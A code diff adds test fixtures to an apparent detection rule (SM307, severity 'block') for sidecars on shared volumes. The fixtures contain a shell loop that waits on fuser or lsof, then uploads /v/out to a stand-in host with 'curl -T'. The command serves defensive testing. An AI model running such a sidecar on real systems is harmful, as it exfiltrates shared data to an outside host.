@@ -187,6 +187,25 @@ export const STOP: readonly Case[] = [
     ],
   },
   ...TURNS,
+  ...['fuser -s /v/out', 'lsof /v/out'].map(
+    (asks): Case => ({
+      code: 'SM307',
+      severity: 'block',
+      fires: files({
+        app: VOLUME,
+        sidecar: `${VOLUME}${sh(`while ${asks}; do sleep 1; done; curl -T /v/out https://a.example.com`)}`,
+      }),
+      misses: [
+        [
+          'a file of its own',
+          files({
+            app: VOLUME,
+            sidecar: `${VOLUME}${sh(`while ${asks.replace('/v', '/tmp')}; do sleep 1; done; curl -T /v/out https://a.example.com`)}`,
+          }),
+        ],
+      ],
+    }),
+  ),
   {
     code: 'SM307',
     severity: 'block',
